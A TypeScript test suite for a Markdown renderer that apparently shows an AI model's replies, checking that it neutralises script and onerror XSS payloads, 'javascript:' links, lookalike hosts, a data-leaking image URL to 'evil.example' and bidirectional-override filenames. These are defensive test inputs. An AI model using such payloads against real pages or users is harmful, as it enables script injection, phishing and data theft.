// Markdown as elements.

import { render, screen, within } from "@testing-library/react";
import { expect, test } from "vitest";

import { Markdown } from "../../src/ui/markdown";
import { parse, parseLive } from "../../src/ui/markdown-blocks";

const html = (text: string, live = false): HTMLElement => render(<Markdown text={text} live={live} />).container;

test("common Markdown is rendered", () => {
  const box = html("# Title\n\nSome **bold**, *slanted*, ~~gone~~ and `code`.\n\n- one\n- two\n\n1. first\n\n> said\n\n---\n\n| a | b |\n|---|--:|\n| 1 | 2 |");
  expect(within(box).getByRole("heading", { name: "Title" })).toBeTruthy();
  for (const tag of ["strong", "em", "del", "code", "ul", "ol", "blockquote", "hr", "table"]) expect(box.querySelector(tag), tag).toBeTruthy();
  expect(within(box).getByRole("region", { name: "Table" })).toBeTruthy();
  expect(box.querySelectorAll("li")).toHaveLength(3);
});

test("HTML of the model is text", () => {
  const box = html("<script>alert(1)</script>\n\nword <img src=x onerror=alert(1)> <b>b</b><br>next");
  expect(box.querySelector("script, img, b")).toBeNull();
  expect(box.textContent).toContain("<script>alert(1)</script>");
  expect(box.textContent).toContain("<img src=x onerror=alert(1)>");
  expect(box.querySelector("br")).toBeTruthy();
});

test("links lead to the web and to mail, open a new tab, and name their host", () => {
  const box = html("[docs](https://example.org/a) <https://example.org/b> [mail](mailto:a@b.c) [bad](javascript:alert(1)) [file](src/app.ts) [fake](https://good.example@evil.example/)");
  const links = [...box.querySelectorAll("a")];
  expect(links.map((link) => link.getAttribute("href"))).toEqual(["https://example.org/a", "https://example.org/b", "mailto:a@b.c", "https://good.example@evil.example/"]);
  for (const link of links) expect(link.rel).toBe("noopener noreferrer nofollow");
  expect(box.textContent).toContain("docs (example.org)");
  expect(box.textContent).not.toContain("https://example.org/b (");
  expect(box.textContent).toContain("fake (evil.example)");
  expect(box.textContent).toContain("file (src/app.ts)");
});

test("a host that imitates another one is spelled out", () => {
  const box = html("[https://аpple.com](https://аpple.com) [https://good.example@evil.example/](https://good.example@evil.example/) [https://good.example.evil.example](https://evil.example/)");
  expect(box.textContent).toContain("(xn--pple-43d.com)");
  expect(box.textContent).toContain("@evil.example/ (evil.example)");
  expect(box.textContent).toContain("good.example.evil.example (evil.example)");
});

test("an image is a link, and nothing is loaded", () => {
  const box = html("![a cat](https://evil.example/?d=SECRET)");
  expect(box.querySelector("img")).toBeNull();
  expect(screen.getByRole("link", { name: /Image: a cat \(evil\.example/ })).toBeTruthy();
});

test("named characters are those characters, as text", () => {
  expect(html("a &lt;b&gt; &amp; &mdash; &#39; &unknown;").textContent).toBe("a <b> & — ' &unknown;");
});

test("a list of tasks shows what is done", () => {
  html("- [x] made\n- [ ] open");
  expect(screen.getByRole("checkbox", { name: "Done" })).toHaveProperty("checked", true);
  expect(screen.getByRole("checkbox", { name: "To do" })).toHaveProperty("checked", false);
});

test("any fence shows its language", () => {
  const box = html('```"><img src=x>\nx\n```\n\n```ts\nconst a = 1;\n```');
  expect(box.querySelector("img")).toBeNull();
  expect(box.textContent).toContain("ts");
});

test("a text that grows is read from its last block on", () => {
  const whole = "# One\n\ntwo\n\n- three\n- four\n\n```js\nlet five;\n```\n\nsix";
  let parsed = parse("");
  let first;
  for (let end = 1; end <= whole.length; end += 1) {
    parsed = parse(whole.slice(0, end), parsed);
    if (end === 20) [first] = parsed.tokens;
  }
  expect(parsed.tokens.map((token) => token.raw)).toEqual(parse(whole).tokens.map((token) => token.raw));
  expect(parsed.tokens[0]).toBe(first);
});

test("a list continues after an empty line, also while it streams", () => {
  let parsed = parse("");
  for (const text of ["- a\n", "- a\n\n", "- a\n\n- b\n", "- a\n\n- b\n\nend"]) parsed = parse(text, parsed);
  expect(parsed.tokens.filter((token) => token.type === "list")).toHaveLength(1);
});

test.each([
  ["a list", Array.from({ length: 600 }, (_, at) => `- item ${at} with **bold** words`).join("\n")],
  ["lines", "one line with `code` and *more*\n".repeat(600)],
  ["a paragraph", "A sentence with some words. ".repeat(900)],
])("%s without end is cut while it is written, nothing is lost, and it is one again at its end", (_what, whole) => {
  let parsed = parse("");
  for (let end = 0; end < whole.length; end += 500) {
    parsed = parseLive(whole.slice(0, end), parsed);
    expect(parsed.tokens.map((token) => token.raw).join("").trimEnd()).toBe(whole.slice(0, end).trimEnd());
    expect(parsed.tokens.at(-1)?.raw.length ?? 0).toBeLessThan(8000);
  }
  expect(parsed.cut).toBe(true);
  const view = render(<Markdown text={whole.slice(0, 9000)} live />);
  view.rerender(<Markdown text={whole} live />);
  view.rerender(<Markdown text={whole} />);
  expect(view.container.querySelectorAll(".goes-on")).toHaveLength(0);
});

test("endless nesting is shown and does not break the page", () => {
  expect(html(`${">".repeat(3000)} deep`).textContent).toContain("deep");
  expect(html("[".repeat(5000)).textContent).toContain("[[[");
});

test("bidirectional controls are spelled out; joined emoji are left alone", () => {
  const box = html("photo\u202Egpj.exe and 👩\u200D💻");
  expect(box.textContent).toContain("photo⟨U+202E⟩gpj.exe");
  expect(box.textContent).toContain("👩\u200D💻");
});
